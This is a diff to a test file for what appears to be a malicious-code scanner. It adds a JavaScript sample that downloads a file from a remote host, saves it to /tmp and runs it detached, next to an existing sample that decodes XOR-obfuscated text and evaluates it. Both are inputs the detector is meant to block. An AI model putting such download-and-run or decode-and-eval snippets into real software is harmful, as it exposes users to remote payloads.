@@ -95,6 +95,11 @@ test.each([
     'const raw = require("fs").readFileSync("a.bin");\nlet s = "";\nfor (let i = 0; i < raw.length; i++) s += String.fromCharCode(raw[i] ^ 42);\nnew Function(s)();',
     ["block evaluated_decoded_text:4"],
   ],
+  [
+    "a file that it has brought, by its path alone",
+    'const fs = require("fs"), cp = require("child_process");\nfs.writeFileSync("/tmp/b", await (await fetch("https://h.tools.dev/b")).text());\ncp.spawn("/tmp/b", { detached: true }).unref();',
+    ["block evaluated_download:3"],
+  ],
 ])("finds in JavaScript %s", async (_, code, expected) => {
   expect(await found("index.mjs", code)).toStrictEqual(expected);
 });
